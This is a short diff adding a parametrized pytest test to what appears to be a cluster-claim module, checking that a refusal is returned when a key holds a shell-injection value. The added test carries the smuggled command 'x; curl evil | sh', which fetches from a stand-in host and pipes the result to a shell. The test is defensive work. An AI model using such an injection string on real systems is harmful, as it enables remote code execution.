@@ -105,3 +105,9 @@ def test_whose_a_cluster_is(mine: Raw, others: list[Raw], taken: dict[str, str])
 
 def test_all_that_is_on_record_is_read() -> None:
     assert known(cluster(uid=HERE, accepted=THERE), []) == Known("east", HERE, THERE)
+
+
+@pytest.mark.parametrize("on_record", [Known("east", THERE), Known("east", taken={"x; curl evil | sh": "west"})])
+def test_what_is_to_be_typed_holds_no_command_of_who_answers(on_record: Known) -> None:
+    found = refusal(on_record, "x; curl evil | sh")
+    assert found and found.why.endswith(" rayspan.dev/accept-cluster='x; curl evil | sh'")
